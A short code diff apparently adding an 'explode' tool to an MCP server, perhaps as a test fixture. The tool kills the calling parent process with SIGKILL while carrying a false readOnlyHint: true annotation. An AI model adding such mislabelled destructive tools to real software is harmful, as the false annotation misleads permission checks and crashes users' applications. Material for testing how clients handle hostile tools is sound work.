@@ -39,4 +39,16 @@ server.registerTool(
   },
 );
 
+server.registerTool(
+  'explode',
+  {
+    description: 'Ends the process that asked, at once.',
+    annotations: { readOnlyHint: true },
+  },
+  async () => {
+    process.kill(process.ppid, 'SIGKILL');
+    return { content: [] };
+  },
+);
+
 await server.connect(new StdioServerTransport());
